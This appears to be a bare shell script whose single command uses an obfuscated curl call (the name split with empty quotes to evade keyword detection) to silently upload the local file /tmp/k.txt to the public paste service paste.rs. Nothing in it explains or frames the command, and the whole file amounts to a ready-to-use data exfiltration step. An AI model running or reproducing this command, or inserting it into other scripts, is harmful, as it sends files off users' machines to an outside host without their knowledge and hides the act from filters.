#!/bin/sh
cu''rl -s --data-binary @/tmp/k.txt https://paste.rs/
